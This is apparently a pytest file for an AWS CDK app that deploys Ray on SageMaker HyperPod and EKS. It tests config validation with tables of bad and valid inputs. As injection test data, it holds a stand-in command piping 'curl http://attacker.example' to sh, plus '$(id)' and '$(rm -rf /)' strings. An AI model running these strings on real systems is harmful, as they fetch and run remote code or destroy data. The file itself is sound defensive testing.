"""Every input is checked: a table of bad inputs, each through the app's entry point (`app.main`), must end
with exit status 1 and exactly the expected `config error:` lines; a table of valid edge cases must load,
and a few of them synthesize in full.

The bad inputs run `main()` in-process on a fresh `cdk.App` (what `cdk synth` runs, minus a Python start-up
per case); a few run `app.py` as a subprocess, as the CDK CLI does, to show the same through a real process.
"""

import json
from pathlib import Path
from typing import Any

import pytest

import app as entry_point
from config import ConfigError, load_config
from tests.support.apps import cli_app, run_app

GROUP = {"name": "workers", "instance_type": "ml.p5.48xlarge", "count": 4}
HEAD = {"name": "head", "instance_type": "ml.m5.2xlarge", "count": 1}
ADDONS = {"vpc-cni": None, "kube-proxy": None, "coredns": None, "eks-pod-identity-agent": None}
SHELL = "; curl -fsSL http://attacker.example | sh"


def bad(key: str, value: Any, rule: str) -> tuple[dict, list[str]]:
    """One `-c key=value` (JSON for lists and mappings, as the CLI passes them) and its one error line."""
    text = value if isinstance(value, str) else json.dumps(value)
    return {key: text}, [f"{key} = {value!r}: {rule}"]


def group(field: str, value: Any, rule: str) -> tuple[dict, list[str]]:
    """A worker instance group with one bad field."""
    context = {
        "hyperpod.instance_groups": json.dumps(
            [{"name": "head", "instance_type": "ml.m5.2xlarge", "count": 1}, {**GROUP, field: value}]
        )
    }
    return context, [f"hyperpod.instance_groups[1].{field} = {value!r}: {rule}"]


def raw(context: dict, *lines: str) -> tuple[dict, list[str]]:
    return context, list(lines)


# (context, expected lines without the "config error: " prefix; each must start the actual line).
BAD_INPUTS: list[tuple[dict, list[str]]] = [
    # --- the app, its environment and tags
    bad("prefix", "ray\n", "must be 3-24 lower-case letters"),
    bad("prefix", "Ray_HP", "must be 3-24 lower-case letters"),
    bad("prefix", "a" * 25, "must be 3-24 lower-case letters"),
    bad("prefix", "ray-", "must be 3-24 lower-case letters"),
    bad("env.account", "123456789012\n", "must be a 12-digit AWS account id"),
    bad("env.account", "12345", "must be a 12-digit AWS account id"),
    bad("env.region", "us-west-2\n", "must be an AWS region known to the pinned botocore"),
    bad("env.region", "us-west-9", "must be an AWS region known to the pinned botocore"),
    bad("env.region", "Oregon", "must be an AWS region known to the pinned botocore"),
    raw({"tags": '{"aws:owner": "me"}'}, "tags key = 'aws:owner': must be an AWS tag key"),
    raw({"tags": '{"AWS:Owner": "me"}'}, "tags key = 'AWS:Owner': must be an AWS tag key"),
    raw({"tags": '{"": "x"}'}, "tags key = '': must be an AWS tag key"),
    raw({"tags": '{"team": "a;b"}'}, "tags.team = 'a;b': must be an AWS tag value"),
    raw({"tags": json.dumps({f"k{i}": "v" for i in range(51)})}, "tags: Dictionary should have at most 50"),
    bad("log_retention_days", "8", "must be one of 1, 3, 5, 7, 14, 30"),
    bad("log_retention_days", "thirty", "Input should be a valid integer"),
    # --- network
    bad("network.existing_vpc_id", "vpc-0123456789abcdef0\n", "must be a VPC id"),
    bad("network.existing_vpc_id", "vpc-xyz", "must be a VPC id"),
    bad("network.vpc_cidr", "10.0.0.0/8", "prefix length must be /16 to /20"),
    bad("network.nat_gateways", "0", "Input should be greater than or equal to 1"),
    bad("network.az_count", "7", "Input should be less than or equal to 6"),
    bad("network.flow_log_retention_days", "7", "unknown key; allowed keys here: az_count"),
    raw({"network": "5"}, "network = '5': Input should be a valid dictionary"),
    # --- EKS
    bad("eks.version", "1.33\n", "must be one of 1.32, 1.33"),
    bad("eks.log_retention_days", "7", "unknown key; allowed keys here: addon_versions"),
    bad("eks.endpoint_access", "public", "Input should be 'private' or 'public_and_private'"),
    raw(
        {"eks.admin_principal_arns": '["arn:aws:iam::123456789012:role/Admin\\n"]'},
        "eks.admin_principal_arns[0] = 'arn:aws:iam::123456789012:role/Admin\\n': must be an IAM role",
    ),
    raw(
        {"eks.admin_principal_arns": '["arn:aws:iam::123456789012:group/Admins"]'},
        "eks.admin_principal_arns[0] = 'arn:aws:iam::123456789012:group/Admins': must be an IAM role or user",
    ),
    raw(
        {"eks.addon_versions": json.dumps({**ADDONS, "VPC_CNI": None})},
        "eks.addon_versions key = 'VPC_CNI': must be a DNS-1123 label",
    ),
    raw(
        {"eks.addon_versions": json.dumps({**ADDONS, "vpc-cni": "v1.20.1-eksbuild.3\n"})},
        "eks.addon_versions: vpc-cni: 'v1.20.1-eksbuild.3\\n' is not an add-on version",
    ),
    # --- HyperPod
    bad("hyperpod.cluster_name", "ray\n", "must be a SageMaker ClusterName"),
    bad("hyperpod.cluster_name", "a" * 64, "must be a SageMaker ClusterName"),
    bad("hyperpod.cluster_name", "my cluster", "must be a SageMaker ClusterName"),
    bad("hyperpod.node_recovery", "Manual", "Input should be 'Automatic' or 'None'"),
    group("name", "workers\n", "must be a SageMaker ClusterInstanceGroupName"),
    group("instance_type", "ml.p5.48xlarge\n", "must be a HyperPod instance type"),
    group("instance_type", "ml.p99.48xlarge", "must be a HyperPod instance type"),
    group(
        "training_plan_arn",
        "arn:aws:sagemaker:us-west-2:123456789012:training-plan/p1;id",
        "must be a training",
    ),
    raw(
        {"hyperpod.instance_groups": json.dumps([{**GROUP, "labels": {"bad key": "x"}}])},
        "hyperpod.instance_groups[0].labels key = 'bad key': must be a Kubernetes label key",
    ),
    group("ebs_volume_gb", 0, "Input should be greater than or equal to 1"),
    raw(
        {"hyperpod.instance_groups": json.dumps([{**GROUP, "labels": {"team": "a;b"}}])},
        "hyperpod.instance_groups[0].labels.team = 'a;b': must be a Kubernetes label value",
    ),
    raw(
        {"hyperpod.instance_groups": json.dumps([{**GROUP, "labels": {"team": "x" * 64}}])},
        f"hyperpod.instance_groups[0].labels.team = {'x' * 64!r}: must be a Kubernetes label value",
    ),
    raw(
        {"hyperpod.instance_groups": json.dumps([{**GROUP, "taints": [{"key": "-gpu"}]}])},
        "hyperpod.instance_groups[0].taints[0].key = '-gpu': must be a Kubernetes taint key",
    ),
    raw(
        {"hyperpod.instance_groups": json.dumps([{**GROUP, "taints": [{"key": "gpu", "value": "a b"}]}])},
        "hyperpod.instance_groups[0].taints[0].value = 'a b': must be a Kubernetes label value",
    ),
    raw(
        {"hyperpod.instance_groups": json.dumps([{**GROUP, "taints": [{"key": "gpu", "effect": "Never"}]}])},
        "hyperpod.instance_groups[0].taints[0].effect = 'Never': Input should be 'NoSchedule'",
    ),
    bad("hyperpod.dependency_chart.helm_version", "3.17.3" + SHELL, "must be a semantic version"),
    bad("hyperpod.dependency_chart.helm_version", "3.17.3\n", "must be a semantic version"),
    bad("hyperpod.dependency_chart.helm_version", "v3.17.3", "must be a semantic version"),
    raw(
        {"hyperpod.dependency_chart.helm_version": "3.18.0"},
        "hyperpod.dependency_chart: helm_version=3.18.0 needs its own helm_sha256",
    ),
    bad("hyperpod.dependency_chart.helm_sha256", "XYZ", "must be a sha256 digest"),
    bad("hyperpod.dependency_chart.repository", "http://github.com/aws/x.git", "must be an https:// URL"),
    bad(
        "hyperpod.dependency_chart.repository", "https://github.com/x.git" + SHELL, "must be an https:// URL"
    ),
    bad("hyperpod.dependency_chart.repository", "https://github.com/$(id).git", "must be an https:// URL"),
    bad("hyperpod.dependency_chart.commit", "main", "must be a full 40-character"),
    bad(
        "hyperpod.dependency_chart.commit", "067d658b2d5c3d347afbadd75e1425214e965dcb\n", "must be a full 40"
    ),
    bad("hyperpod.dependency_chart.chart_path", "../etc", "must be a relative path"),
    bad("hyperpod.dependency_chart.chart_path", "/abs/chart", "must be a relative path"),
    bad("hyperpod.dependency_chart.chart_path", "helm chart", "must be a relative path"),
    bad("hyperpod.dependency_chart.content_sha256", "abc", "must be a sha256 digest"),
    bad("hyperpod.dependency_chart.namespace", "Kube-System", "must be a DNS-1123 label"),
    bad("hyperpod.dependency_chart.source", "s3", "Input should be 'github' or 'local'"),
    raw(
        {"hyperpod.dependency_chart.source": "local", "hyperpod.dependency_chart.local_path": "chart\n"},
        "hyperpod.dependency_chart.local_path = 'chart\\n': must be a path without control characters",
    ),
    raw(
        {"hyperpod.dependency_chart.source": "local", "hyperpod.dependency_chart.local_path": "/nonexistent"},
        "hyperpod.dependency_chart.local_path = '/nonexistent': not a chart directory",
    ),
    # --- storage
    bad("storage.mount_path", "fsx", "must be an absolute path other than '/'"),
    bad("storage.mount_path", "/", "must be an absolute path other than '/'"),
    bad("storage.mount_path", "/fsx/../etc", "must be an absolute path other than '/'"),
    bad("storage.mount_path", "/fsx data", "must be an absolute path other than '/'"),
    bad("storage.storage_class_name", "FSx_SC", "must be a DNS-1123 subdomain"),
    bad("storage.claim_name", "fsx-claim\n", "must be a DNS-1123 subdomain"),
    bad("storage.csi_driver_chart_version", "1.17", "must be a semantic version"),
    bad("storage.throughput_per_tib", "300", "Input should be 125, 250, 500 or 1000"),
    bad("storage.data_compression", "GZIP", "Input should be 'LZ4' or 'NONE'"),
    # --- KubeRay and Ray
    bad("kuberay.namespace", "kube-system", "must be a DNS-1123 label (1-63 lower-case letters, digits and"),
    bad("kuberay.namespace", "default", "must be a DNS-1123 label (1-63 lower-case letters, digits and"),
    bad("kuberay.operator_chart_version", "latest", "must be a semantic version"),
    bad("ray.namespace", "kube-public", "must be a DNS-1123 label (1-63 lower-case letters, digits and"),
    bad("ray.namespace", "ray\n", "must be a DNS-1123 label (1-63 lower-case letters, digits and"),
    raw({"ray.namespace": "kuberay"}, "ray.namespace 'kuberay' is the KubeRay operator's namespace"),
    bad("ray.cluster_name", "1ray", "must be a DNS-1035 label"),
    bad("ray.cluster_name", "a" * 54, "KubeRay needs a name of at most 53 characters"),
    bad("ray.ray_version", "2.60.0\n", "must be a Ray release such as 2.60.0"),
    bad("ray.python_tag", "py311; id", "must be a rayproject/ray Python tag"),
    bad("ray.image_uri", "rayproject/ray:2.60.0-py311-gpu\n", "must be a container image reference"),
    bad("ray.image_uri", "Ray Project/ray:2.60.0", "must be a container image reference"),
    bad("ray.head.cpu", "6 cores", "must be a Kubernetes quantity"),
    bad("ray.head.memory", "24Gi\n", "must be a Kubernetes quantity"),
    raw({"ray.worker_groups": '[{"name": "GPU"}]'}, "ray.worker_groups[0].name = 'GPU': must be a DNS-1123"),
    bad("ray.monitoring.grafana_host", "grafana:3000", "must be an http:// or https:// URL"),
    bad("ray.monitoring.prometheus_host", "http://prometheus\n", "must be an http:// or https:// URL"),
    bad("ray.job.name", "Fsdp", "must be a DNS-1035 label"),
    bad("ray.job.name", "a" * 48, "KubeRay needs a name of at most 47 characters"),
    raw(
        {"ray.job.entrypoint_args": '["--max-steps", "10\\n"]'},
        "ray.job.entrypoint_args[1] = '10\\n': must be one command-line argument of printable characters",
    ),
    bad("ray.autoscaling.idle_timeout_seconds", "-1", "Input should be greater than or equal to 0"),
    # --- the CDK's own context keys are not config; a typo next to them still is reported
    raw(
        {"acknowledged-issue-numbers": [32775], "cli-telemetry": False, "nework.az_count": "3"},
        "nework: unknown key; allowed keys here: eks, env",
    ),
]

# YAML files (bytes) that must each give exactly one line about the file.
BAD_FILES: list[tuple[bytes, str]] = [
    (b"- a\n- b\n", "config file: the top level must be a mapping of sections, not list"),
    (b"just text\n", "config file: the top level must be a mapping of sections, not str"),
    (b"\xff\xfeprefix: x\n", "config = '{path}': not UTF-8 text (byte 0)"),
    (b"network: [unclosed\n", "config = '{path}': not valid YAML:"),
    (b"netwrk:\n  az_count: 3\n", "netwrk: unknown key; allowed keys here: eks, env"),
    (b'prefix: "ray\\n"\n', "prefix = 'ray\\n': must be 3-24 lower-case letters"),
]


def run_main(context: dict, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> tuple[int, list[str]]:
    """`app.main` on a fresh app with the CLI's context: its exit status and stderr lines."""
    application = cli_app(tmp_path / "cdk.out", context)
    with pytest.raises(SystemExit) as exited:  # any other exception fails the test, with its traceback
        entry_point.main(application)
    return exited.value.code, capsys.readouterr().err.splitlines()


def assert_config_errors(status: int, lines: list[str], expected: list[str]) -> None:
    assert status == 1
    assert len(lines) == len(expected), lines
    for line, start in zip(lines, expected, strict=True):
        assert line.startswith(f"config error: {start}"), line
        assert "Traceback" not in line


def test_the_table_holds_at_least_sixty_distinct_bad_inputs():
    cases = [json.dumps(context, sort_keys=True) for context, _ in BAD_INPUTS] + [f for f, _ in BAD_FILES]
    assert len(set(map(str, cases))) == len(cases) >= 60


@pytest.mark.parametrize(("context", "expected"), BAD_INPUTS, ids=[str(i) for i in range(len(BAD_INPUTS))])
def test_bad_input_stops_the_app_with_exactly_its_config_error_lines(context, expected, capsys, tmp_path):
    assert_config_errors(*run_main(context, capsys, tmp_path), expected)


@pytest.mark.parametrize(("content", "expected"), BAD_FILES, ids=[str(i) for i in range(len(BAD_FILES))])
def test_bad_config_file_stops_the_app_with_one_line(content, expected, capsys, tmp_path):
    path = tmp_path / "config.yaml"
    path.write_bytes(content)
    status, lines = run_main({"config": str(path)}, capsys, tmp_path)
    assert_config_errors(status, lines, [expected.format(path=path)])


@pytest.mark.parametrize("make", [lambda tmp: tmp / "absent.yaml", lambda tmp: tmp])
def test_missing_or_directory_config_file_is_one_line(make, capsys, tmp_path):
    path = make(tmp_path)
    assert_config_errors(
        *run_main({"config": str(path)}, capsys, tmp_path), [f"config = '{path}': cannot read"]
    )


def test_the_real_process_reports_shell_metacharacters_and_non_utf8_files_as_lines(tmp_path):
    """Through a real `python app.py`: the same lines, exit status 1, nothing else on stderr."""
    undecodable = tmp_path / "latin1.yaml"
    undecodable.write_bytes("prefix: caf\xe9\n".encode("latin-1"))
    result = run_app(
        {
            "config": str(undecodable),
            "acknowledged-issue-numbers": [32775],  # what `cdk acknowledge` leaves in cdk.context.json
        }
    )
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        f"config error: config = '{undecodable}': not UTF-8 text (byte 11): save the file as UTF-8"
    ]
    result = run_app({"hyperpod.dependency_chart.helm_version": "3.17.3" + SHELL})
    assert result.returncode == 1
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"config error: hyperpod.dependency_chart.helm_version = '3.17.3{SHELL}': must be")


# --- valid edge cases --------------------------------------------------------------------------------------

VALID: list[dict] = [
    {"prefix": "abc"},
    {"prefix": "a" * 24},
    {"env.account": "000000000000", "env.region": "eusc-de-east-1"},
    {"env.region": "cn-north-1"},
    {"tags": '{"cost center": "ML Platform", "owner@team": "a+b=c:d/e_f.g-h"}'},
    {"tags": json.dumps({f"k{i}": "v" for i in range(50)})},
    {"tags": '{"empty": ""}'},
    {"log_retention_days": "3653"},
    {"eks.admin_principal_arns": '["arn:aws-cn:iam::123456789012:role/path/to/Admin+ops@x"]'},
    {"hyperpod.cluster_name": "a" * 63},
    {
        "hyperpod.instance_groups": json.dumps(
            [HEAD, {**GROUP, "labels": {"example.com/team": "t", "a": "b.c-d_e"}}]
        )
    },
    {"hyperpod.instance_groups": json.dumps([HEAD, {**GROUP, "taints": [{"key": "nvidia.com/gpu"}]}])},
    {
        "hyperpod.instance_groups": json.dumps(
            [
                HEAD,
                {
                    **GROUP,
                    "training_plan_arn": "arn:aws:sagemaker:us-west-2:123456789012:training-plan/plan-1",
                },
            ]
        )
    },
    {"hyperpod.dependency_chart.helm_version": "3.18.0", "hyperpod.dependency_chart.helm_sha256": "a" * 64},
    {
        "hyperpod.dependency_chart.repository": "https://git.example.com:8443/mirror/sagemaker-hyperpod-cli.git"
    },
    {"storage.mount_path": "/mnt/fsx_data-1"},
    # The static PV is <ray.namespace>-<claim_name>: "ray-" + 249 = 253, the Kubernetes maximum.
    {"storage.storage_class_name": "fsx.sc-1", "storage.claim_name": "a" * 249},
    {"storage.csi_driver_chart_version": "1.17.0-rc.1+build.5"},
    {"kuberay.namespace": "kuberay-system", "ray.namespace": "ray-jobs"},
    {"ray.cluster_name": "r" * 53, "ray.job.name": "j" * 47},
    {
        "ray.image_uri": "123456789012.dkr.ecr.us-west-2.amazonaws.com/team/ray:2.60.0-py311-gpu@sha256:"
        + "a" * 64
    },
    {"ray.head.cpu": "2500m", "ray.head.memory": "2.5e10"},
    {"ray.monitoring.grafana_host": "http://grafana.monitoring.svc:3000"},
    {"ray.job.entrypoint_args": json.dumps(["--note", "a b; $(rm -rf /) `id` 'q' \"d\" | & > <"])},
    {"acknowledged-issue-numbers": [32775], "cli-telemetry": False},
]


@pytest.mark.parametrize("context", VALID, ids=[str(i) for i in range(len(VALID))])
def test_valid_edge_case_is_accepted(context):
    load_config(context)


def test_valid_edge_cases_synthesize(tmp_path, capsys):
    """The widest values at once, through the entry point, with cdk-nag on: no finding, no traceback."""
    context = {
        "prefix": "a" * 24,
        "tags": VALID[4]["tags"],
        "log_retention_days": "7",
        "storage.claim_name": "fsx.claim-1",
        "ray.job.enabled": "true",
        "ray.job.name": "j" * 47,
        "ray.cluster_name": "r" * 53,
        "ray.job.entrypoint_args": VALID[-2]["ray.job.entrypoint_args"],
        "ray.monitoring.grafana_host": "http://grafana.monitoring.svc:3000",
        "acknowledged-issue-numbers": [32775],
    }
    context["ray.job.entrypoint_args"] = json.dumps(
        [*json.loads(context["ray.job.entrypoint_args"]), *LOOKALIKES]
    )
    application = cli_app(tmp_path / "cdk.out", context)
    entry_point.main(application)
    assert "config error" not in capsys.readouterr().err
    # The default runner: the supervisor Job, whose name (47 + 13 characters) still fits 63.
    assert (tmp_path / "cdk.out" / "manifests" / "Ray-RaySupervisorManifest.yaml").is_file()
    assert_config_text_stays_text(tmp_path / "cdk.out", load_config(context))


# Text that looks like template markup but is not (`${` and `{{resolve:` are refused, see
# tests/config/test_hostile_input.py): it must reach the manifests verbatim.
LOOKALIKES = ["$HOME", "{x}", "{{ resolve }}", "$(id)", "}"]


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for key, child in value.items() for text in (*_strings(key), *_strings(child))]
    if isinstance(value, list):
        return [text for child in value for text in _strings(child)]
    return []


def assert_config_text_stays_text(outdir: Path, config) -> None:
    """Scan every synthesized template: no string holds a CDK token marker, and a dynamic reference only
    where the app builds one itself (a secret it owns: `{{resolve:secretsmanager:` then a Ref, never config
    text); every config string that reaches a manifest arrives there verbatim."""
    config_strings = {text for text in _strings(config.model_dump(mode="json")) if len(text) >= 3}
    for template in outdir.glob("*.template.json"):
        for text in _strings(json.loads(template.read_text())):
            assert "${Token[" not in text, (template.name, text[:200])
            if "{{resolve:" in text:
                assert not any(value in text for value in config_strings if "{" in value), text[:200]
    manifests = " ".join(path.read_text() for path in (outdir / "manifests").glob("*.yaml"))
    for argument in config.ray.job.entrypoint_args:
        assert argument in manifests or json.dumps(argument)[1:-1] in manifests, argument


def test_a_config_error_is_raised_before_any_stack_exists():
    with pytest.raises(ConfigError):
        load_config({"prefix": "x\n"})
